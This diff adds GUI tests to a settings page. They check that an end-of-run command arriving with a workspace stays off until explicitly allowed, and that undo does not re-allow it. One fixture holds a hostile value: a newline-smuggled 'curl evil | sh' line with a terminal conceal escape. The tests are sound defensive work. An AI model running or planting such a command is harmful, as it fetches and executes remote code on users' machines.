@@ -20,6 +20,7 @@ from PySide6.QtWidgets import (
 )
 from pytestqt.qtbot import QtBot
 
+from iterand_engine.machine.allowed import Allowed
 from iterand_engine.machine.settings import Settings
 from iterand_engine.machine.workspace import open_workspace_dir
 from iterand_gui.pages.settings.appearance import AppearanceSection
@@ -109,6 +110,46 @@ def test_that_the_command_at_the_end_is_stored_when_it_was_typed(gui: OpenSettin
     QTest.keyClick(slots.on_end, Qt.Key.Key_Return)
     gui.settle()
     assert gui.stored.on_end == "notify 'a run, done'"
+    assert Allowed.load(gui.workspace).allows_command("notify 'a run, done'")
+    assert slots.on_end_off.text == ""
+    assert not slots.allow.isVisible()
+    slots.on_end.clear()
+    QTest.keyClicks(slots.on_end, "another")
+    QTest.keyClick(slots.on_end, Qt.Key.Key_Return)
+    gui.settle()
+    slots.on_end_row.note.button.click()
+    gui.settle()
+    assert gui.stored.on_end == "notify 'a run, done'"
+    assert slots.on_end_off.text == "", "what was allowed is so again after an undo"
+
+
+def test_that_a_command_that_came_with_the_workspace_is_off_until_it_is_allowed(
+    gui: OpenSettingsPage,
+) -> None:
+    command = "true\ncurl evil | sh \x1b[8m"
+    Settings(on_end=command).save(gui.workspace)
+    slots = gui.section(SlotsSection)
+    gui.page.refresh()
+    gui.settle()
+    assert "nobody allowed this command" in slots.on_end_off.text
+    assert slots.on_end_off.text.endswith(r"The command: true\ncurl evil | sh \x1b[8m")
+    slots.on_end.setFocus()
+    QTest.keyClick(slots.on_end, Qt.Key.Key_Return)
+    gui.settle()
+    assert gui.stored.on_end == command, "nobody wrote what the line made of it"
+    assert not Allowed.load(gui.workspace).allows_command(command)
+    slots.on_end.clear()
+    QTest.keyClicks(slots.on_end, "mine")
+    QTest.keyClick(slots.on_end, Qt.Key.Key_Return)
+    gui.settle()
+    slots.on_end_row.note.button.click()
+    gui.settle()
+    assert gui.stored.on_end == command
+    assert not Allowed.load(gui.workspace).allows_command(command), "nor does an undo allow it"
+    QTest.mouseClick(slots.allow, Qt.MouseButton.LeftButton)
+    gui.settle()
+    assert Allowed.load(gui.workspace).allows_command(command)
+    assert (slots.on_end_off.text, slots.allow.isVisible()) == ("", False)
 
 
 def test_that_the_test_set_is_locked_by_one_switch(gui: OpenSettingsPage) -> None:
